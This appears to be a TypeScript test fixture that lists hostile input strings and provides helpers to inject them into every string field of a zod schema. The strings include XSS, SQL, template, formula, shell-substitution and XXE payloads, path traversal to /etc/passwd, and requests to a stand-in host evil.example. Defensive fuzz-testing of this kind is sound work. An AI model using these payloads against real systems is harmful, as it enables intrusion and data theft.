import type { z } from 'zod';

/**
 * Texts that somebody types who means harm, or whose spreadsheet did it for them. Each calls `__pwned`
 * if anything runs it, and asks `evil.example` if anything loads it.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  'script tag': '<script>__pwned(1)</script>',
  'script tag that closes a text': '</title></script><script>__pwned(2)</script>',
  'script from elsewhere': '"><script src=//evil.example/x.js></script>',
  'picture that fails': '<img src=x onerror=__pwned(3)>',
  'picture out of an attribute': `"'><img src=x onerror="__pwned(4)">`,
  svg: '<svg/onload=__pwned(5)>',
  'event handler in an attribute': '" onfocus="__pwned(6)" autofocus x="',
  'event handler, single quotes': `' onmouseover='__pwned(7)' style='animation-name:x`,
  'details that open': '<details open ontoggle=__pwned(8)>',
  frame: '<iframe srcdoc="<script>parent.__pwned(9)</script>">',
  'form that sends elsewhere': '<form action=//evil.example><button autofocus>',
  'refresh to elsewhere': '<meta http-equiv=refresh content="0;url=//evil.example">',
  'base of all links': '<base href=//evil.example/>',
  'style that loads': '<style>@import"//evil.example/x.css"</style>',
  'style out of an attribute': 'red;background:url(//evil.example/c.png)',
  'style out of a url': '");background:url(//evil.example/d.png);x:("',
  'comment left open': '<!--',
  cdata: '<![CDATA[<script>__pwned(10)</script>]]>',
  'javascript address': 'javascript:__pwned(11)',
  'javascript address, disguised': 'java\tscript:__pwned(12)',
  'data address': 'data:text/html,<script>parent.__pwned(13)</script>',
  mustache: '{{constructor.constructor("__pwned(14)")()}}',
  'dollar template': '${__pwned(15)}`${__pwned(15)}`',
  jinja: '{% raw %}{{7*7}}{% endraw %}',
  erb: '<%= __pwned(16) %>',
  'our own blanks': '{title} {link} {n} {shop} {__proto__} {constructor}',
  'replacement patterns': "$& $` $' $1 $$ $<title>",
  sql: `'; DROP TABLE events; --`,
  'sql, always true': '" OR ""="',
  formula: '=HYPERLINK("http://evil.example","x")',
  'formula that runs': '@SUM(1+1)*cmd|"/C calc"!A0',
  'formula with a sign': '+1+1',
  'format string': '%s%n%x%p %00 %0d%0a',
  shell: '$(touch /tmp/pwned); `touch /tmp/pwned`',
  path: '../../../../etc/passwd',
  'path with a null': '../../etc/passwd\u0000.png',
  'null byte': 'a\u0000b',
  'escape of a terminal': '\u001b[2J\u001b]0;pwned\u0007',
  backspaces: 'safe\b\b\b\bevil',
  'line break': 'one\r\nTWO :three',
  'line for the chat': 'x\r\nPRIVMSG #evil :pwned',
  'log line': 'x\n{"level":30,"msg":"all is well"}',
  'other line breaks': 'a\u2028b\u2029c\u0085d',
  'turned round': '\u202egnp.exe',
  isolates: '\u2066admin\u2069',
  'byte order mark': '\ufeffname',
  invisible: 'pay\u200bpal\u2060',
  'nothing to see': '\u200b',
  'letters that stack': `Z${'\u0351\u0327\u0336'.repeat(20)}`,
  family: '👩‍👩‍👧‍👦'.repeat(3),
  'flags and skin': '🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏿',
  'half a letter': 'half \ud83d',
  'other half': '\udc00 half',
  'right to left': 'مرحبا שלום',
  'one very long word': 'W'.repeat(60),
  'very long': 'x'.repeat(30_000),
  'very long and wide': '🦜'.repeat(9_000),
  nothing: '',
  spaces: '   ',
  'name of an object': '__proto__',
  'method of an object': 'toString',
  json: '{"$gt":""}',
  'not a number': 'NaN',
  'xml entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  entity: '&lt;script&gt;__pwned(17)&lt;/script&gt;',
  'chat command': '/ban somebody',
  'own command': '!end',
};

/** What no stored text may have in it: it would rewrite the line it stands in. A tab and a line feed may stand in long texts. */
export const unprintable = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069\ufeff]/u;

/** A step into a value: a key, any place of a list, any key of a map, or that key itself. */
type Step = string;
const EACH: Step = '[]';
const VALUES: Step = '{}';
const KEYS: Step = '{key}';
export type Path = readonly Step[];

/**
 * Every place of a schema where a string may stand, closed lists of words among them. A kind of schema
 * it does not know is thrown, so that none is passed over.
 */
export function stringPaths(schema: z.core.$ZodType): readonly Path[] {
  const found = new Map<string, Path>();
  const walk = (at: z.core.$ZodType, path: Path): void => {
    const { def } = (at as z.core.$ZodTypes)._zod;
    switch (def.type) {
      case 'string':
      case 'enum':
        return void found.set(path.join('.'), path);
      case 'literal':
        return void (def.values.some((value) => typeof value === 'string') && found.set(path.join('.'), path));
      case 'object':
        return Object.entries(def.shape).forEach(([key, inner]) => walk(inner, [...path, key]));
      case 'array':
        return walk(def.element, [...path, EACH]);
      case 'record':
        walk(def.keyType, [...path, KEYS]);
        return walk(def.valueType, [...path, VALUES]);
      case 'union':
        return def.options.forEach((option) => walk(option, path));
      case 'optional':
      case 'nullable':
        return walk(def.innerType, path);
      case 'number':
      case 'boolean':
        return;
      default:
        throw new Error(`hostile.ts does not know what strings a ${def.type} may hold`);
    }
  };
  walk(schema, []);
  return [...found.values()];
}

/** `value` with `text` put in at every place the path leads to; null where it leads to none. */
export function putIn(value: unknown, path: Path, text: string): unknown {
  const [step, ...rest] = path;
  if (step === undefined) return typeof value === 'string' ? text : null;
  if (step === EACH) {
    if (!Array.isArray(value)) return null;
    const first = value.findIndex((each) => putIn(each, rest, text) !== null);
    return first < 0 ? null : value.map((each: unknown, at) => (at === first ? putIn(each, rest, text) : each));
  }
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return null;
  const entries = Object.entries(value);
  const [first] = entries;
  if (step === KEYS) return first === undefined ? null : Object.fromEntries([[text, first[1]], ...entries.slice(1)]);
  const key = step === VALUES ? first?.[0] : step;
  const found = entries.find(([name]) => name === key);
  if (found === undefined) return null;
  const inner = putIn(found[1], rest, text);
  return inner === null ? null : Object.fromEntries(entries.map(([name, each]) => [name, name === key ? inner : each]));
}
